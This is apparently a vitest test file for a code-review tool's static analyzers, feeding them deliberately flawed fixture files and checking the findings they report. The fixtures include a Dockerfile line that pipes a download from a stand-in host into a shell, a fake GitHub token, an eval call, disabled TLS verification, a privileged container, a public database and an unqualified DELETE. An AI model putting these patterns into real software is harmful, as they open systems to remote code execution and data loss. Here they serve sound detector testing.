import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { parseChange } from "../../core/diff/index.ts";
import {
  categories,
  type RawFinding,
  severities,
  type SourceFile,
} from "../../core/domain/index.ts";
import type { Analyzer, FileAnalyzer } from "../../core/ports/index.ts";
import { createAnalysisHost, createAnalyzers } from "./index.ts";

const never = new AbortController().signal;
const host = createAnalysisHost();
let tempRoot = "";
let analyzers: Analyzer[] = [];

beforeAll(async () => {
  tempRoot = await mkdtemp(path.join(tmpdir(), "kody-analyzers-test-"));
  analyzers = createAnalyzers({ tempRoot, host });
});

afterAll(async () => {
  await host.close();
  await rm(tempRoot, { recursive: true, force: true });
});

function fileAnalyzers(): FileAnalyzer[] {
  return analyzers.filter((analyzer) => analyzer.kind === "files");
}

const token = ["ghp", "9fQ2vLx7Rk3ZtB8mWc5YpN1sHd6GjT4aUeKo"].join("_");

/** One file with faults for every engine, and some that are clean. */
const files: readonly SourceFile[] = [
  { path: "src/app.ts", text: `const token = "${token}";\nif (a === NaN) eval(a);\n` },
  { path: "src/clean.ts", text: "export const a = 1;\n" },
  {
    path: "bitbucket-pipelines.yml",
    text: "image: node\npipelines:\n  default:\n    - step: { size: 9x }\n",
  },
  {
    path: "app/orders.py",
    text: "import requests\n\ndef f(u, a=[]):\n    return requests.get(u, verify=False, timeout=9)\n",
  },
  { path: "Dockerfile", text: "FROM node\nRUN curl https://x.example/i.sh | sh\nUSER node\n" },
  { path: "deploy/compose.yml", text: "services:\n  web:\n    privileged: true\n" },
  {
    path: "main.tf",
    text: 'resource "aws_db_instance" "main" {\n  publicly_accessible = true\n}\n',
  },
  { path: "clean-up.sql", text: "DELETE FROM orders;\n" },
  { path: "README.md", text: "# Title\n" },
  { path: "logo.svg", text: "<svg/>\n" },
];

async function analyzeAll(sources: readonly SourceFile[]): Promise<RawFinding[]> {
  const found: RawFinding[] = [];
  for (const analyzer of fileAnalyzers()) {
    const accepted = sources.filter((file) => analyzer.accepts(file.path));
    const result = await analyzer.analyze(accepted, never);
    if (result.status !== "ok") throw new Error(result.reason);
    found.push(...result.findings);
  }
  return found;
}

describe("the analyzers", () => {
  it("are known by short names, each once", () => {
    expect(analyzers.map(({ id, kind }) => `${id} ${kind}`)).toEqual([
      "secrets files",
      "oxlint files",
      "rules files",
      "ruff files",
      "pipelines files",
      "dockerfiles files",
      "manifests files",
      "terraform files",
      "sql files",
      "change-risks change",
      "callers change",
      "migrations change",
      "safeguards change",
      "dependencies change",
    ]);
  });

  it("find each its own faults, in well-formed findings", async () => {
    const found = await analyzeAll(files);
    expect(found.map(({ rule }) => rule).toSorted()).toEqual([
      "bash/download-piped-to-shell",
      "compose/privileged",
      "docker/unpinned-base",
      "javascript/no-eval",
      "javascript/use-isnan",
      "pipelines/missing-script",
      "pipelines/no-max-time",
      "pipelines/unknown-value",
      "pipelines/unpinned-image",
      "python/mutable-argument-default",
      "python/tls-verification-disabled",
      "secrets/github-token",
      "sql/delete-everything",
      "terraform/public-database",
      "terraform/unencrypted-storage",
    ]);
    for (const finding of found) {
      expect(finding.rule).toMatch(/^[a-z]+\/[a-z0-9-]+$/);
      expect(severities).toContain(finding.severity);
      expect(categories).toContain(finding.category);
      expect(finding.title).toMatch(/^\S.{5,80}[^.\s]$/);
      expect(finding.message).not.toContain(token.slice(0, 8));
      const lines = files.find((file) => file.path === finding.path)?.text.split("\n").length ?? 0;
      expect(
        finding.range === null || (finding.range.start >= 1 && finding.range.end <= lines),
      ).toBe(true);
    }
  });

  it("say the same every time, whatever the order of the files", async () => {
    const sorted = (found: readonly RawFinding[]): string[] =>
      found.map((finding) => JSON.stringify(finding)).toSorted();
    const expected = sorted(await analyzeAll(files));
    await fc.assert(
      fc.asyncProperty(
        fc.shuffledSubarray([...files], { minLength: files.length }),
        async (shuffled) => {
          expect(sorted(await analyzeAll(shuffled))).toEqual(expected);
        },
      ),
      { numRuns: 5 },
    );
  });

  it("print nothing and leave nothing behind", async () => {
    const out = vi.spyOn(process.stdout, "write").mockReturnValue(true);
    const err = vi.spyOn(process.stderr, "write").mockReturnValue(true);
    await analyzeAll(files);
    const written = [out.mock.calls.length, err.mock.calls.length];
    vi.restoreAllMocks();
    expect(written).toEqual([0, 0]);
    expect(await readdir(tempRoot)).toEqual([]);
  });

  it("survive text of any kind, and lose nothing else to it", async () => {
    const hostile = fc.oneof(
      fc.string({ unit: "binary", maxLength: 300 }),
      fc.constantFrom(
        "\0".repeat(50),
        "\uD800".repeat(9),
        "\uFEFF",
        "\r".repeat(99),
        "\r\0",
        "{".repeat(150),
        "`${".repeat(300),
        "- ? : &a *a".repeat(30),
      ),
    );
    await fc.assert(
      fc.asyncProperty(hostile, async (text) => {
        const names = [
          "x.ts",
          "x.vue",
          "x.py",
          "x.go",
          "x.php",
          "x.tf",
          "x.sql",
          "Dockerfile",
          "compose.yml",
          "bitbucket-pipelines.yml",
          "__proto__.js",
          "constructor",
        ];
        const found = await analyzeAll([
          ...names.map((name) => ({ path: `sub/${name}`, text })),
          ...files,
        ]);
        expect(found.filter(({ path: name }) => !name.startsWith("sub/"))).toHaveLength(15);
        for (const { range, path: name } of found) {
          const lines = name.startsWith("sub/") ? text.split("\n").length : 99;
          expect(range === null || range.end <= lines).toBe(true);
        }
      }),
      { numRuns: 15 },
    );
  });

  it("stop at once when the review is cancelled", async () => {
    const cancelled = AbortSignal.abort(new Error("superseded"));
    const nothing = { head: () => null, base: () => null, complete: false };
    const change = parseChange("diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+b\n");
    for (const analyzer of analyzers) {
      const running =
        analyzer.kind === "files"
          ? analyzer.analyze(
              files.filter(({ path: name }) => analyzer.accepts(name)),
              cancelled,
            )
          : analyzer.analyze(change, nothing, cancelled);
      await expect(running).rejects.toThrow("superseded");
    }
  });

  it("have nothing to say of nothing", async () => {
    for (const analyzer of fileAnalyzers()) {
      expect(await analyzer.analyze([], never)).toEqual({
        status: "ok",
        findings: [],
        skipped: [],
      });
    }
  });
});
